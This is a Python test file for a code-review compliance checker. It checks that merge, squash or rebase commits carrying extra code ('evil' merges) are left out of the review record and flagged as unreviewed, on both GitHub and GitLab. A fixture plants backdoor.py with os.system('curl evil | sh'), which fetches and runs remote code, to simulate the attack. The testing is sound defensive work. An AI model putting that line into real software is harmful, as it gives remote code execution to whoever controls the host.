"""The commit that lands a change (a forge's ``merge_commit_sha``, GitLab's
``squash_commit_sha``) is credited to the change only when it holds git's own merge of what it
merges: a merge pushed with code of its own (an "evil" merge) is left out of the review record,
and REVIEW-002 then judges it as an unreviewed commit of whoever made it.

On the recorded objects of tests/importers/fixtures/forges (sources in its README), with their
shas replaced by those of repositories built here with fixed dates.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from checker.demo.builder import ScriptedRepo
from checker.evidence import merges
from tests.conftest import CliResult, run_cli
from tests.importers.forge_server import Forge, github_pull_routes, serve
from tests.importers.test_forges import BASE, DEV, FIXTURES, PR538, _copy, _records
from tests.importers.workspaces import saved_items, saved_pages

VINCENT = "Vincent <jacquev6@example.com>"
MERGED = "2017-03-25T16:52:49Z"
BACKDOOR = {"backdoor.py": "import os\nos.system('curl evil | sh')\n"}
LEFT_OUT = "merge or squash commits left out of their change's commits"


def pr538_steps(repo: ScriptedRepo) -> list[str]:
    """PyGithub#538's four commits, at their dates, on the branch checked out."""
    dates = ["2017-03-20T20:44:26Z", "2017-03-21T18:59:22Z", "2017-03-21T19:00:11Z",
             "2017-03-24T20:45:04Z"]  # fmt: skip
    return [
        repo.commit(f"step {n}", {f"f{n}.py": f"{n}\n"}, author=f"Alex <{DEV}>", date=date)
        for n, date in enumerate(dates)
    ]


def _branch(repo: ScriptedRepo) -> tuple[str, list[str]]:
    """PyGithub#538's shape: a base, its four commits on a branch, and a reviewed hotfix on
    main since, so that landing the branch makes a tree that neither side has."""
    base = repo.commit("base", {"README": "x\n"}, author=VINCENT, date="2017-03-01T00:00:00Z")
    repo.branch("reviews")
    steps = pr538_steps(repo)
    repo.checkout("main")
    repo.commit("hotfix", {"hotfix.py": "1\n"}, author=VINCENT, date="2017-03-23T09:00:00Z",
                trailers=("Reviewed-by: Jimmy <jimmy@coreos.example>",))  # fmt: skip
    return base, steps


def _land(repo: ScriptedRepo, how: str) -> list[str]:
    """Land the branch on main as GitHub would (``merge``, ``squash``, ``rebase``: the rebased
    commits, last the one GitHub names), or as someone did by hand: the same with code of its
    own (``evil ...``), or an octopus merge of the branch and another."""
    extra = BACKDOOR if how.startswith("evil") else {}
    if how.endswith("merge"):
        repo.git("merge", "--quiet", "--no-ff", "--no-commit", "reviews", date=MERGED)
        return [repo.commit("Merge #538", extra, author=VINCENT, date=MERGED)]
    if how.endswith("squash"):
        repo.git("merge", "--quiet", "--squash", "reviews")
        return [repo.commit("Reviews (#538)", extra, author=VINCENT, date=MERGED)]
    if how.endswith("rebase"):
        steps = repo.git("rev-list", "--reverse", "main..reviews").split()
        rebased = []
        for step in steps[:-1]:
            repo.git("cherry-pick", step, date=MERGED)
            rebased.append(repo.git("rev-parse", "HEAD"))
        repo.git("cherry-pick", "--no-commit", steps[-1])
        return [*rebased, repo.commit("step 3", extra, author=f"Alex <{DEV}>", date=MERGED)]
    repo.branch("other", "main~1")
    repo.commit("other", {"other.py": "1\n"}, author=VINCENT, date="2017-03-24T09:00:00Z",
                trailers=("Reviewed-by: Jimmy <jimmy@coreos.example>",))  # fmt: skip
    repo.checkout("main")
    repo.git("merge", "--quiet", "--no-ff", "-m", "Merge #538 and other", "reviews", "other",
             date=MERGED, author=VINCENT)  # fmt: skip
    return [repo.git("rev-parse", "HEAD")]


def _pr538(tmp_path: Path, how: str) -> tuple[ScriptedRepo, Path, list[str]]:
    """A repository where #538 landed ``how``, a deployment of main, and #538's recorded
    objects with our shas, its approval given on its final head (the README's variant); the
    commits that landed it, last the one the pull request names (``merge_commit_sha``)."""
    repo = ScriptedRepo(tmp_path / how.replace(" ", "-"))
    base, steps = _branch(repo)
    landed = _land(repo, how)
    evidence = repo.path / "compliance"
    evidence.mkdir()
    people = {"jimmy": ["jimmy@coreos.example", "jzelinskie"], "alex": [DEV, "allevin"]}
    (evidence / "identities.yaml").write_text(yaml.safe_dump(people))
    (evidence / "deploys.yaml").write_text(yaml.safe_dump([_deployment(landed[-1])]))
    (repo.path / "knightwatch.yaml").write_text(f"baseline: {base}\n")
    shas = dict(zip([*PR538, BASE], [*steps, landed[-1], base], strict=True))
    export = _copy(FIXTURES / "github-pr538", tmp_path / f"export-{how.replace(' ', '-')}", shas)
    reviews = saved_items(export / "538" / "reviews.json")
    reviews[0] |= {"commit_id": steps[-1], "submitted_at": "2017-03-25T10:00:00Z"}
    (export / "538" / "reviews.json").write_text(saved_pages(reviews))
    return repo, export, landed


def _deployment(commit: str, day: str = "2017-03-26") -> dict[str, Any]:
    return {
        "id": "D1",
        "service": "app",
        "environment": "production",
        "commit": commit,
        "started_at": f"{day}T09:00:00Z",
        "deployer": "ops@example.com",
        "approvals": [{"by": "lead@example.com", "at": f"{day}T08:00:00Z"}],
        "targets": [{"host": "web-1", "status": "succeeded"}],
    }


def _unreviewed(repo: ScriptedRepo) -> set[str]:
    result = run_cli("check", "--repo", repo.path, "--format", "json", "--as-of", "2018-01-01")
    assert result.code in (0, 1), result.err
    return {f["subject"] for f in result.json()["findings"] if f["rule"] == "REVIEW-002"}


def _import(repo: ScriptedRepo, export: Path) -> CliResult:
    result = run_cli("import", "github-reviews", export / "pulls.json", export,
                     "--repository", "PyGithub/PyGithub", "--repo", repo.path)  # fmt: skip
    assert result.code == 0, result.err
    return result


def _loose_objects(repo: ScriptedRepo) -> str:
    return repo.git("count-objects")


def test_a_merge_commit_counts_as_reviewed_only_as_gits_own_merge(tmp_path: Path) -> None:
    clean, export, [merge] = _pr538(tmp_path, "merge")
    result = _import(clean, export)
    assert LEFT_OUT not in result.err
    assert merge in _records(clean.path / "compliance" / "reviews.jsonl")[0]["commits"]
    assert _unreviewed(clean) == set()

    evil, export, [merge] = _pr538(tmp_path, "evil merge")
    objects = _loose_objects(evil)
    result = _import(evil, export)
    assert f"1 {LEFT_OUT}" in result.err and f"1 {merges.CHANGED}" in result.err
    [record] = _records(evil.path / "compliance" / "reviews.jsonl")
    assert merge not in record["commits"] and len(record["commits"]) == 4
    assert _unreviewed(evil) == {merge}
    # git's merge was redone elsewhere: the audited repository gained no object.
    assert _loose_objects(evil) == objects


def test_a_squash_commit_counts_as_reviewed_only_as_gits_own_merge(tmp_path: Path) -> None:
    clean, export, [squash] = _pr538(tmp_path, "squash")
    assert LEFT_OUT not in _import(clean, export).err
    assert _unreviewed(clean) == set()

    evil, export, [squash] = _pr538(tmp_path, "evil squash")
    result = _import(evil, export)
    assert f"1 {merges.CHANGED}" in result.err
    assert _unreviewed(evil) == {squash}


def test_a_rebase_merges_last_commit_counts_only_as_gits_own_merge(tmp_path: Path) -> None:
    """GitHub's "rebase and merge" names the last rebased commit: it is credited as a squash
    commit would be; the others, which GitHub does not list, were unreviewed and still are."""
    clean, export, rebased = _pr538(tmp_path, "rebase")
    assert LEFT_OUT not in _import(clean, export).err
    assert _unreviewed(clean) == set(rebased[:-1])

    evil, export, rebased = _pr538(tmp_path, "evil rebase")
    assert f"1 {merges.CHANGED}" in _import(evil, export).err
    assert _unreviewed(evil) == set(rebased)


def test_an_octopus_merge_or_a_git_too_old_to_redo_a_merge_credits_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo, export, [octopus] = _pr538(tmp_path, "octopus")
    assert f"1 {merges.OCTOPUS}" in _import(repo, export).err
    assert _unreviewed(repo) == {octopus}

    repo, export, [merge] = _pr538(tmp_path, "merge")
    monkeypatch.setattr(merges, "MERGE_TREE_GIT", (99, 0))
    result = _import(repo, export)
    assert "cannot redo a merge (git merge-tree --write-tree needs 99.0)" in result.err
    assert _unreviewed(repo) == {merge}


def test_a_fetched_pull_request_is_judged_the_same(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo, export, [merge] = _pr538(tmp_path, "evil merge")
    monkeypatch.setenv("GITHUB_TOKEN", "test-token")
    base = "/repos/PyGithub/PyGithub"
    routes = github_pull_routes(export, 538, base)
    with serve(Forge(routes)) as forge:
        result = run_cli("import", "github-reviews", "--repository", "PyGithub/PyGithub",
                         "--api-url", forge.url, "--repo", repo.path)  # fmt: skip
    assert result.code == 0, result.err
    assert f"1 {merges.CHANGED}" in result.err
    assert _unreviewed(repo) == {merge}


# -- GitLab -------------------------------------------------------------------------------------


def _gitlab(tmp_path: Path, how: str) -> tuple[ScriptedRepo, Path, str]:
    """Merge request !5 of GitLab's example, its one commit by jdoe, landed ``how`` (a merge
    commit, or a squash commit with no merge commit: fast-forward with squash), and approved
    by root; the commit that landed it."""
    repo = ScriptedRepo(tmp_path / f"gl-{how.replace(' ', '-')}")
    base = repo.commit("base", {"README": "x\n"}, author=VINCENT, date="2016-06-01T00:00:00Z")
    repo.branch("reviews")
    head = repo.commit(
        "Add the approvals API", {"api.py": "1\n"}, author="John Doe <jdoe@example.com>",
        date="2016-06-08T00:10:00Z",
    )  # fmt: skip
    repo.checkout("main")
    repo.commit("hotfix", {"hotfix.py": "1\n"}, author=VINCENT, date="2016-06-08T09:00:00Z",
                trailers=("Reviewed-by: Admin <root@example.com>",))  # fmt: skip
    extra = BACKDOOR if how.startswith("evil") else {}
    kind = "--no-ff" if how.endswith("merge") else "--squash"
    repo.git("merge", "--quiet", kind, *(["--no-commit"] if kind == "--no-ff" else []), "reviews")
    landed = repo.commit("Merge !5", extra, author=VINCENT, date="2016-06-08T21:20:42Z")
    export = _copy(FIXTURES / "gitlab", tmp_path / f"gl-export-{how.replace(' ', '-')}",
                   {"8888888888888888888888888888888888888888": head})  # fmt: skip
    requests = json.loads((export / "merge_requests.json").read_text())
    key = "merge_commit_sha" if kind == "--no-ff" else "squash_commit_sha"
    requests[0] |= {"merge_commit_sha": None, key: landed}
    (export / "merge_requests.json").write_text(json.dumps(requests))
    evidence = repo.path / "compliance"
    evidence.mkdir()
    people = {"admin": ["root@example.com", "root"], "john": ["jdoe@example.com", "jdoe"]}
    (evidence / "identities.yaml").write_text(yaml.safe_dump(people))
    deploys = [_deployment(landed, "2016-06-09")]
    (evidence / "deploys.yaml").write_text(yaml.safe_dump(deploys))
    (repo.path / "knightwatch.yaml").write_text(f"baseline: {base}\n")
    return repo, export, landed


@pytest.mark.parametrize("how", ["merge", "squash"])
def test_gitlab_credits_a_merge_or_squash_commit_only_as_gits_own_merge(
    tmp_path: Path, how: str
) -> None:
    def imported(repo: ScriptedRepo, export: Path) -> CliResult:
        result = run_cli("import", "gitlab-approvals", export / "merge_requests.json", export,
                         "--project", "group/app", "--api-url", "http://gitlab.dev",
                         "--repo", repo.path)  # fmt: skip
        assert result.code == 0 and "1 approvals counted" in result.err, result.err
        return result

    clean, export, landed = _gitlab(tmp_path, how)
    assert LEFT_OUT not in imported(clean, export).err
    assert landed in _records(clean.path / "compliance" / "reviews.jsonl")[0]["commits"]
    assert _unreviewed(clean) == set()

    evil, export, landed = _gitlab(tmp_path, f"evil {how}")
    assert f"1 {merges.CHANGED}" in imported(evil, export).err
    assert _unreviewed(evil) == {landed}
